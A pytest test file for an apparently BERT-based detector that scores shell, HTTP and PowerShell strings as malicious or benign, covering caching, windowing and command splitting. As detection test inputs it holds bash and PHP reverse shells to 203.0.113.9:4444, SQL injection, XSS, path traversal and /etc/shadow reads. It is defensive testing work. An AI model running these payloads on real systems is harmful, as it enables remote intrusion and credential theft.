"""What a text is depends on text, source and model; not on its neighbours, nor on what was judged before."""

from __future__ import annotations

import math
import random
import time
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import pytest

from analyzers.bert.canonical import canonical
from analyzers.bert.commands import commands
from analyzers.bert.encoder import ALONE, Encoder
from analyzers.bert.judge import BENIGN, MAX_CHARACTERS, Refused, TextJudge, Verdict, place_of
from analyzers.bert.manifest import BUILTIN_MODEL
from analyzers.bert.screen import LOUDEST
from state.verdicts import MAX_VALUE, VerdictStore

TEXTS = [
    ("ls -la /var/log", "shell"),
    ("id=1' OR '1'='1' -- -", "http"),
    ("<script>alert(document.cookie)</script>", "http"),
    ("../../../../etc/passwd", "http"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell"),
    ("www.example.com", "dns"),
    ("", "shell"),
    ("x", "unknown"),
    ("x", "nonsense"),
    ("Grüße, 世界 🎉", "http"),
    ("tar czf /backup/home.tgz /home " * 40, "shell"),
    ("$x=1;" * 3_000, "powershell"),
]


class Shelf:
    """A store in memory."""

    def __init__(self) -> None:
        self.held: dict[bytes, bytes] = {}
        self.asked = 0

    def get(self, keys: Sequence[bytes]) -> list[bytes | None]:
        self.asked += len(keys)
        return [self.held.get(key) for key in keys]

    def put(self, items: Mapping[bytes, bytes]) -> None:
        self.held.update(items)


def alone(encoder: Encoder, text: tuple[str, str]) -> Verdict | Refused:
    return TextJudge(encoder, size=0).judge([text])[0]


def test_a_verdict_is_the_same_alone_in_any_company_and_from_any_memory(encoder: Encoder) -> None:
    expected = [alone(encoder, text) for text in TEXTS]
    remembering = TextJudge(encoder, size=10)
    for seed in range(5):
        order = list(range(len(TEXTS))) * 2
        random.Random(seed).shuffle(order)
        assert remembering.judge([TEXTS[i] for i in order]) == [expected[i] for i in order]
        assert TextJudge(encoder).judge([TEXTS[i] for i in order]) == [expected[i] for i in order]
    assert remembering.counts["raw"] > 0


def test_a_model_whose_logits_move_with_the_batch_is_run_window_by_window(
    encoder: Encoder, monkeypatch: pytest.MonkeyPatch
) -> None:
    sizes: list[int] = []
    run = Encoder._run

    def leaning(self: Encoder, windows: Sequence[object]) -> object:
        sizes.append(len(windows))
        return run(self, windows) + len(windows) * 0.01  # type: ignore[arg-type]

    monkeypatch.setattr(Encoder, "_run", leaning)
    moved = Encoder.load(BUILTIN_MODEL)
    sizes.clear()
    TextJudge(moved).judge(TEXTS)
    assert set(sizes) == {1}, "what is in the batch would decide what a text is"


def test_a_repeated_text_is_judged_once_and_a_rewritten_one_by_its_canonical_form(judge: TextJudge) -> None:
    judge.judge([("cat /etc/shadow", "shell")] * 3)
    assert (judge.counts["encoder"], judge.counts["raw"]) == (1, 2)
    judge.judge([("cat   /etc/shadow", "shell"), ("CAT /etc/shadow", "shell"), ("cat /etc/shadow", "shell")])
    assert (judge.counts["encoder"], judge.counts["canonical"], judge.counts["raw"]) == (1, 2, 3)
    judge.judge([("cat /etc/shadow", "http")])
    assert judge.counts["encoder"] == 2, "what is harmless in one place may not be in another"


def test_no_text_is_benign_and_one_of_only_invisible_letters_too(judge: TextJudge) -> None:
    for text in ("", " \t ", "\x00\x01", "\u200b\u200e"):
        (verdict,) = judge.judge([(text, "shell")])
        assert isinstance(verdict, Verdict)
        assert (verdict.label, verdict.malicious) == (BENIGN, 0.0)
    assert judge.counts["encoder"] == 0


def test_scores_are_probabilities_of_the_labels_and_the_label_is_the_best_that_passes(judge: TextJudge) -> None:
    for verdict in judge.judge(TEXTS):
        assert isinstance(verdict, Verdict)
        assert len(verdict.scores) == len(judge.labels) and all(0 <= score <= 1 for score in verdict.scores)
        assert verdict.malicious == max(verdict.scores)
        assert verdict.label == BENIGN or verdict.scores[judge.labels.index(verdict.label)] == verdict.malicious
    over = judge.verdict([1.0] + [0.0] * (len(judge.labels) - 1))
    assert over.label == judge.labels[0]
    assert judge.verdict([0.0] * len(judge.labels)).label == BENIGN


def test_a_long_text_is_read_at_its_head_and_tail_and_in_bounded_time(encoder: Encoder) -> None:
    attack = "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    harmless = "".join(f"echo line {number} of the report\n" for number in range(40_000))[:1_000_000]
    judge = TextJudge(encoder, size=0)
    started = time.process_time()
    plain, head, tail = judge.judge([(text, "shell") for text in (harmless, attack + harmless, harmless + attack)])
    took = time.process_time() - started
    assert isinstance(plain, Verdict) and isinstance(head, Verdict) and isinstance(tail, Verdict)
    assert plain.sampled and head.sampled and tail.sampled
    place = judge.labels.index("malicious-shell")
    assert head.scores[place] > plain.scores[place] and tail.scores[place] > plain.scores[place]
    # Seconds, not the minutes that all of its windows would take.
    assert took < 30


def test_each_command_of_a_line_is_judged_by_itself_too(changed: Callable[..., Path]) -> None:
    """Else eight commands of administration hide the one between them."""
    attack = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    around = ["cd /srv/app", "git pull --rebase", "make -j4 build", "tail -n 50 /var/log/app/build.log"]
    line = " && ".join([*around, attack, *reversed(around)])
    with_them, without = (TextJudge(Encoder.load(changed(commands=told)), size=0).encoder for told in (True, False))
    form, lone = canonical(line, "shell"), canonical(attack, "shell")
    told = [(form.text, place_of("shell"), form.features)]
    (read,), (less,) = with_them.read(told, 16), without.read(told, 16)
    assert read.whole and len(less.windows) == 1 and read.windows[:1] == less.windows
    assert read.parts[0] == form.text and lone.text in read.parts[1:]
    ((alone,),) = (some.windows for some in with_them.read([(lone.text, place_of("shell"), lone.features)], 16))
    assert any(window.tokens == alone.tokens and window.features == alone.features for window in read.windows[1:])
    # As often as it stands there, a command is read once, and of very many only some.
    many = "; ".join(["ls -la /tmp"] * 500 + [f"rm /tmp/{number}" for number in range(500)])
    (read,) = with_them.read([(many, place_of("shell"), form.features)], 16)
    assert not read.whole and len(read.windows) == 16 + ALONE and read.among > 500


def test_a_script_in_quotes_is_one_command_and_an_open_quote_hides_none() -> None:
    shell, script = place_of("shell"), """php -r '$s=fsockopen("203.0.113.9",4444);popen("sh <&3 >&3 2>&3", "r");'"""
    around = ["cd /srv/app", "git pull --rebase", "make -j4 build", "tail -n 50 /var/log/app/build.log"]
    found = commands("; ".join([*around, script, *around]), shell)
    assert found[-1] == script and 'popen("sh <&3 >&3 2>&3", "r")' in found and found[:4] == around
    # Quotes that do not pair hold the wrong things together, and nothing apart.
    for quote in ("'", '"', " ' ", ' " '):
        found = commands("; ".join([*around[:2], "echo " + quote, script, *around[2:]]), shell)
        assert 'popen("sh <&3 >&3 2>&3", "r")' in found and set(around) <= set(found)
    # The whole is read anyway.
    alone = commands("php -r '" + "print(1);" * 20 + "'", shell)
    assert alone == ["php -r 'print(1)", "print(1)"]


def _logit(verdict: Verdict) -> float:
    return math.log(verdict.malicious / (1 - verdict.malicious))


def test_the_screen_moves_a_verdict_by_a_bounded_step(changed: Callable[..., Path]) -> None:
    plain, heavy = (TextJudge(Encoder.load(changed(screen_weights=weights))) for weights in ([], [0.5] * 6))
    for text in ("id", "x" * 300, "/bin/sh" * 500, "; ".join(f"rm -rf /srv/{number}/cache" for number in range(9))):
        form = canonical(text, "shell")
        readings = heavy.encoder.read([(form.text, 1, form.features)], 16)
        (more,), (none,) = heavy.encoder.screened(readings), plain.encoder.screened(readings)
        assert len(more) == len(none) == len(readings[0].windows) and not none.any()
        assert more.any() and abs(more).max() <= 0.5 * LOUDEST
        (before,), (after,) = plain.judge([(text, "shell")]), heavy.judge([(text, "shell")])
        assert isinstance(before, Verdict) and isinstance(after, Verdict)
        # Six decimals are told, so that what is far beyond moves unseen.
        if 0.001 < before.malicious < 0.999 and 0.001 < after.malicious < 0.999:
            assert more.min() - 0.01 <= _logit(after) - _logit(before) <= more.max() + 0.01


def _tokens(encoder: Encoder, text: str, most: int) -> tuple[list[int], list[set[int]], bool]:
    """Return the tokens of a text, which of them each window is over, and whether the windows are all."""
    (read,) = encoder.read([(text, place_of("http"), (0.0,) * len(encoder.manifest.features))], most)
    ids = encoder.tokens([text])[0]
    for window in read.windows:
        assert list(window.tokens) == ids[window.start : window.start + len(window.tokens)]
    return ids, [set(range(one.start, one.start + len(one.tokens))) for one in read.windows], read.whole


def test_windows_cover_a_text_that_fits_and_of_a_longer_one_the_most_suspicious_parts(encoder: Encoder) -> None:
    room = encoder.manifest.max_tokens - 2
    for words in (1, 50, 150, 400, 800):
        ids, spans, whole = _tokens(encoder, "what is written here, ü, " * words, 1_000)
        assert whole and set[int]().union(*spans) == set(range(len(ids)))
        assert max(map(len, spans)) <= room
    line, attack = "a letter about the garden and the weather ", "' union select password, 1, 2 from users -- "
    for place in (0, 3_000, 9_900):
        ids, spans, whole = _tokens(encoder, line * place + attack + line * (10_000 - place), 4)
        begin = len(encoder.tokens([line * place])[0])
        # Also where head, tail and samples would miss it.
        assert not whole and len(spans) == 4 and any({begin + 1, begin + 5} <= span for span in spans)
    # A model without a screen cannot say, so these are spread.
    plain = Encoder.load(BUILTIN_MODEL)
    plain.screen = None
    ids, spans, whole = _tokens(plain, "what is written here, ü, " * 2_000, 16)
    assert not whole and len(spans) == 16 and 0 in spans[0] and len(ids) - 1 in spans[-1]
    assert any(0.3 < min(span) / len(ids) < 0.6 for span in spans)


def test_a_text_beyond_the_limit_is_refused_with_the_reason(judge: TextJudge) -> None:
    refused, fine = judge.judge([("a" * (MAX_CHARACTERS + 1), "http"), ("a", "http")])
    assert isinstance(refused, Refused) and "limit" in refused.reason
    assert isinstance(fine, Verdict)


def test_hostile_texts_get_an_answer_each(encoder: Encoder) -> None:
    judge = TextJudge(encoder, size=100)
    texts = ["".join(map(chr, range(start, start + 1_000))) for start in range(0, 0x3000, 1_000)]
    texts += [chr(code) for code in range(0xD800, 0xE000, 64)]
    texts += ["".join(map(chr, range(start, start + 16))) for start in range(0x10000, 0x110000, 0x4000)]
    texts += ["\x00" * 10_000, "\u202e" * 10_000, "a\u0301" * 10_000, "%" * 50_000, "%25" * 20_000, "&#x" * 20_000]
    texts += ["(" * 60_000, "'" * 60_000, "\\" * 60_000, "`" * 60_000, "$(" * 30_000, "A" * 65_536, "=" * 65_536]
    for source in ("http", "powershell", "\x00"):
        for verdict in judge.judge([(text, source) for text in texts]):
            assert isinstance(verdict, Verdict)
            assert 0 <= verdict.malicious <= 1


def test_ten_thousand_random_byte_strings_get_an_answer_each(judge: TextJudge) -> None:
    rng = random.Random(1)
    lines = [rng.randbytes(rng.randrange(0, 24)) for _ in range(10_000)]
    for start in range(0, len(lines), 500):
        texts = [(line.decode("utf-8", "replace"), "unknown") for line in lines[start : start + 500]]
        assert all(isinstance(verdict, Verdict) for verdict in judge.judge(texts))


class TestSharing:
    def test_another_worker_finds_what_one_has_judged(self, encoder: Encoder, valkey_url: str) -> None:
        first, second = (TextJudge(encoder, store=VerdictStore(valkey_url, timeout=5)) for _ in range(2))
        expected = first.judge(TEXTS)
        assert second.judge(TEXTS) == expected
        assert second.counts["encoder"] == 0 and second.counts["shared"] == first.counts["encoder"] > 5

    def test_a_verdict_of_another_model_is_not_taken(self, encoder: Encoder, changed: Callable[..., Path]) -> None:
        shelf = Shelf()
        TextJudge(encoder, store=shelf).judge(TEXTS)
        tokenizer = (BUILTIN_MODEL / "tokenizer.json").read_bytes() + b"\n"
        other = TextJudge(Encoder.load(changed({"tokenizer.json": tokenizer})), store=shelf)
        other.judge(TEXTS)
        assert other.version != encoder.manifest.version
        assert other.counts["shared"] == 0

    @pytest.mark.parametrize("value", [b"", b"\xff" * 29, b"\x00", b"\x00" * MAX_VALUE, b"benign"])
    def test_what_cannot_be_a_verdict_is_judged_anew(self, encoder: Encoder, value: bytes) -> None:
        shelf = Shelf()
        expected = TextJudge(encoder, store=shelf).judge(TEXTS)
        shelf.held = dict.fromkeys(shelf.held, value)
        again = TextJudge(encoder, store=shelf)
        assert again.judge(TEXTS) == expected
        assert again.counts["shared"] == 0

    def test_without_redis_texts_are_judged_all_the_same_and_it_is_asked_seldom(
        self, encoder: Encoder, caplog: pytest.LogCaptureFixture
    ) -> None:
        store = VerdictStore("redis://:s3cret@127.0.0.1:1/0", timeout=0.05)
        judge = TextJudge(encoder, size=0, store=store)
        for _ in range(5):
            assert judge.judge(TEXTS) == [alone(encoder, text) for text in TEXTS]
        assert store.failures == 1
        assert "s3cret" not in caplog.text and "redis" in caplog.text
